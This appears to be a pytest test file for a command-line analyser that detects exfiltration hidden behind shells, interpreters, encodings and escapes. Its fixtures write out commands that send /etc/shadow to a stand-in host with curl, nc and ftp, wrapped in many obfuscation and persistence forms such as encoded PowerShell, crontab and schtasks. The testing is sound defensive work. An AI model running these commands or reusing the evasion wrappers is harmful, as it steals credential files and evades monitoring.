"""A command line is understood: which commands run in the end, whatever hides them and whatever runs them."""

import base64
import json
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from exfilwatch.commands.command import DEEPEST, LONGEST
from exfilwatch.commands.understand import understood

CURL = ["curl", "-T", "/etc/shadow", "http://h.example/"]
LINE = " ".join(CURL)
ENCODED = base64.b64encode(LINE.encode()).decode()
WIDE = base64.b64encode(LINE.encode("utf-16-le")).decode()

SAME = [
    ("/usr/bin/curl", LINE),
    ("/bin/sh", f"sh -c {LINE}"),
    ("/bin/sh", f"sh -c '{LINE}'"),
    ("/bin/bash", f"bash -lc '{LINE}'"),
    ("/bin/bash", f"/bin/bash -c sh -c '{LINE}'"),
    ("/bin/bash", f"bash -c 'echo {ENCODED} | base64 -d | sh'"),
    ("/bin/bash", f"bash -c 'eval {LINE}'"),
    ("/usr/bin/sudo", f"sudo -u root -E {LINE}"),
    ("/usr/bin/env", f"env -i X=1 {LINE}"),
    ("/usr/bin/nohup", f"nohup nice -n 5 {LINE}"),
    ("/usr/bin/timeout", f"timeout -s KILL 5m {LINE}"),
    ("/usr/bin/setsid", f"setsid stdbuf -oL {LINE}"),
    ("/usr/bin/find", f"find / -maxdepth 1 -exec {LINE} ;"),
    ("/usr/bin/xargs", f"xargs -n1 -I x {LINE}"),
    ("/bin/busybox", f"busybox sh -c '{LINE}'"),
    ("/usr/bin/watch", f"watch -n 60 {LINE}"),
    ("/bin/su", f"su - root -c '{LINE}'"),
    ("/usr/bin/script", f"script -qc '{LINE}' /dev/null"),
    ("/usr/bin/python3.11", f"""python3 -c 'import os; os.system("{LINE}")'"""),
    ("/usr/bin/python3", f"python3 -c 'import subprocess as s; s.run({json.dumps(CURL)})'"),
    ("/usr/bin/perl", f"""perl -e 'system("{LINE}")'"""),
    ("/usr/bin/ruby", f"""ruby -e 'exec("{LINE}")'"""),
    ("/usr/bin/osascript", f"""osascript -e 'do shell script "{LINE}"'"""),
    ("/bin/sh", f"sh -c cp $(which curl) /tmp/x; /tmp/x {' '.join(CURL[1:])}"),
    ("/bin/sh", f"sh -c (crontab -l; echo '0 * * * * {LINE}') | crontab -"),
    (r"C:\Windows\System32\cmd.exe", f'"cmd.exe" /c "{LINE}"'),
    (r"C:\Windows\System32\cmd.exe", f'cmd /c start "" /b {LINE}'),
    (r"C:\Windows\System32\forfiles.exe", f'forfiles /p C:\\ /m x /c "cmd /c {LINE}"'),
    (r"C:\Windows\System32\schtasks.exe", f'schtasks /create /tn x /sc hourly /tr "{LINE}"'),
    (r"C:\Windows\System32\wbem\WMIC.exe", f'wmic process call create "{LINE}"'),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", f'"powershell.exe" & {{{LINE}}}'),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", f"powershell -nop -w hidden -enc {WIDE}"),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", f"powershell cmd /c {LINE}"),
    (r"C:\Windows\System32\cmd.exe", f"cmd.exe /c powershell -e {WIDE}"),
]


@pytest.mark.parametrize(("image", "line"), SAME, ids=[line[:60] for _, line in SAME])
def test_finds_the_command_that_runs_in_the_end(image: str, line: str) -> None:
    assert CURL in [command.words for command in understood(line, image).commands], understood(line, image)


@pytest.mark.parametrize(
    ("image", "line", "step"),
    [
        ("/bin/bash", f"bash -c 'echo {ENCODED} | base64 -d | sh'", "base64"),
        ("/bin/bash", "bash -c c\\url -T /etc/shadow http://h.example/", "escape"),
        (r"C:\Windows\System32\cmd.exe", "cmd /c c^u^rl -T /etc/shadow http://h.example/", "caret"),
        (r"C:\Windows\x\powershell.exe", f"powershell -enc {WIDE}", "encoded command"),
        ("/usr/bin/curl", "ｃｕｒｌ -T /etc/shadow http://h.example/", ""),
    ],
)
def test_says_what_hid_it(image: str, line: str, step: str) -> None:
    found = understood(line, image)
    assert CURL in [command.words for command in found.commands]
    assert step in found.undone if step else found.undone


def test_a_program_is_known_through_a_link_of_the_same_line() -> None:
    found = understood("sh -c 'ln -s /usr/bin/curl /tmp/x && /tmp/x -T a http://h/'", "/bin/sh")
    assert [command.program for command in found.commands] == ["ln", "curl"]


def test_padding_hides_nothing() -> None:
    found = understood(f"sh -c 'true {' ' * 100_000}; {LINE}'", "/bin/sh")
    assert CURL in [command.words for command in found.commands]
    assert found.undone == ("padding",)


def test_what_is_not_hidden_is_said_to_be_so() -> None:
    assert understood(LINE, "/usr/bin/curl").undone == ()


def test_a_program_that_runs_another_is_named_beside_it() -> None:
    (found,) = (each for each in understood(f"sudo nohup {LINE}", "/usr/bin/sudo").commands if each.words == CURL)
    assert found.within == ("sudo", "nohup")


def test_a_program_of_a_script_language_is_read_by_its_own_name() -> None:
    found = understood("/usr/bin/python3 /usr/bin/aws s3 cp a s3://b/", "/usr/bin/python3.11")
    assert [command.program for command in found.commands] == ["python3", "aws"]


@pytest.mark.parametrize(
    ("image", "line", "program"),
    [
        ("/var/tmp/a", "ncftpput h.example /in /srv/a", "ncftpput"),
        ("/usr/bin/curl", "[kthreadd] -T /srv/a https://h.example/", "curl"),
        ("/usr/bin/curl", "wget https://h.example/", "curl"),
        ("/var/tmp/a", "b -x", "a"),
    ],
)
def test_a_program_is_the_one_of_its_file_or_its_first_word_that_is_known(image: str, line: str, program: str) -> None:
    assert understood(line, image).commands[0].program == program


def test_what_was_typed_after_a_program_started_is_its_input() -> None:
    (found, *_) = understood("ftp -n h.example\nput /etc/shadow x", "/usr/bin/ftp").commands
    assert found.text == "put /etc/shadow x"


def test_a_redirection_in_a_record_is_no_argument() -> None:
    (found,) = understood("nc h.example 80 </etc/shadow", "/usr/bin/nc").commands
    assert (found.words, found.reads) == (["nc", "h.example", "80"], "/etc/shadow")


def test_html_escaped_records_read_as_what_they_were() -> None:
    found = understood("cmd.exe /c dir &gt;&gt; C:\\t.txt &amp; curl -T x http://h/", r"C:\Windows\cmd.exe")
    assert ["curl", "-T", "x", "http://h/"] in [command.words for command in found.commands]


def test_scripts_within_scripts_end_somewhere() -> None:
    line = LINE
    for _ in range(DEEPEST * 3):
        line = f"echo {base64.b64encode(line.encode()).decode()} | base64 -d | sh"
    found = understood(f"sh -c '{line}'", "/bin/sh")
    assert CURL not in [command.words for command in found.commands]
    assert len(found.plain) <= LONGEST


WORDS = st.text(alphabet="abc$(){}[]`'\"|&;<>^%!\\ \n/-=:@*?#~\x00é", max_size=200)


@given(WORDS, st.sampled_from(["/bin/sh", "cmd.exe", r"C:\x\powershell.exe", "/usr/bin/python3", "/usr/bin/perl", ""]))
@settings(max_examples=120, deadline=None)
def test_never_fails_whatever_the_line(text: str, image: str) -> None:
    for line in (text, f"sh -c {text}", f'cmd /c "{text}"', f"powershell -c {text}", f"python -c {text}"):
        assert isinstance(understood(line, image).plain, str)


def fastest(line: str, image: str) -> float:
    """Seconds that a line takes, the best of several."""
    best = float("inf")
    for _ in range(5):
        understood.cache_clear()
        start = time.process_time()
        understood(line, image)
        best = min(best, time.process_time() - start)
    return best


@pytest.mark.parametrize(
    ("image", "unit"),
    [
        ("/bin/sh", "a$("),
        ("/bin/sh", "a\\b'c'\"d\" "),
        ("/bin/sh", "${a:-"),
        ("/bin/sh", "{a,b}{c,d}"),
        ("/bin/sh", "echo YQ== | base64 -d | sh; "),
        (r"C:\x\cmd.exe", 'a^b"c"%d% & '),
        (r"C:\x\cmd.exe", "("),
        (r"C:\x\powershell.exe", "('a'+'b')"),
        (r"C:\x\powershell.exe", "$(("),
        (r"C:\x\powershell.exe", "'{0}'-f 'x';"),
        ("/usr/bin/python3", 'os.system("x");'),
        ("/usr/bin/x", "-a b=c "),
    ],
)
def test_takes_no_longer_than_the_line_is_long(image: str, unit: str) -> None:
    """Four times the text takes at most twelve times as long: nothing is quadratic."""
    prefix = {"sh": "sh -c ", "cmd.exe": "cmd /c ", "powershell.exe": "powershell -c ", "python3": "python3 -c "}
    head = next((text for name, text in prefix.items() if image.endswith(name)), "x ")
    short, long = head + unit * (4_000 // len(unit)), head + unit * (16_000 // len(unit))
    assert fastest(long, image) < 12 * fastest(short, image) + 0.002
